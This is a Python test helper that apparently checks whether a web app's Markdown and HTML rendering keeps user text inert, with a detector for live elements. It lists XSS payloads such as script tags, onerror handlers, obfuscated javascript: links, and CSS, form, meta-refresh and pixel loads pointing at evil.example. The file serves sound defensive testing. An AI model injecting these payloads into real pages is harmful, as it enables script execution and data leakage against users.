"""Texts that must stay text wherever they come out, and a look for what came alive."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from selectolax.lexbor import LexborHTMLParser

MARKDOWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=q></form>',
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '<img src="//evil.example/pixel.png">',
    '<img src="/media/../admin/logout">',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<div onclick="alert(1)" id="top" class="admin">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><script>alert(1)</script>',
    "$\\href{javascript:alert(1)}{x}$<script>",
]

PLAIN = "\"'><img src=x onerror=alert(1)></script><script>alert(1)</script>{{7*7}}\u2028"
# What these texts would do if they came alive. The one frame of ours is the preview beside a form.
_LIVE = "iframe:not([name='labfolio-preview-page']), object, embed, base, math, style, [style], meta[http-equiv]"
_LIVE += ", svg script, video"
_ADDRESS = re.compile(r"(?:https?://|mailto:|/(?!/)|[#?.]|[\w-]+/?(?:[?#]|$))")
_ADDRESSES = ("href", "src", "action", "formaction", "poster", "data", "xlink:href")


def came_alive(html: str) -> list[str]:
    """Every element of a page, or of a piece of one, that runs, frames, styles, loads or leads where none should."""
    page = LexborHTMLParser(html)
    found = [node.html or "" for node in page.css(_LIVE)]
    for node in page.css("*"):
        attributes = node.attributes
        runs = [name for name in attributes if name.startswith("on")]
        leads = [attributes[name] or "" for name in _ADDRESSES if name in attributes]
        loads = node.tag in ("img", "source", "link", "script", "form") and any("evil." in one for one in leads)
        if runs or loads or not all(_ADDRESS.match(one.strip()) for one in leads if one.strip()):
            found.append(node.html or "")
        elif node.tag == "script" and not attributes.get("src"):
            found += [] if _is_data(attributes.get("type"), node.text()) else [node.html or ""]
    return [one[:200] for one in found]


def _is_data(kind: str | None, text: str) -> bool:
    if kind not in ("application/ld+json", "application/json"):
        return False
    json.loads(text)
    return True


def html_of(value: Any, name: str = "") -> Iterator[str]:
    """The texts of a JSON answer that are meant as HTML: those whose names say so."""
    if isinstance(value, dict):
        for key, part in value.items():
            yield from html_of(part, key)
    elif isinstance(value, list):
        for part in value:
            yield from html_of(part, name)
    elif isinstance(value, str) and name.endswith("html"):
        yield value
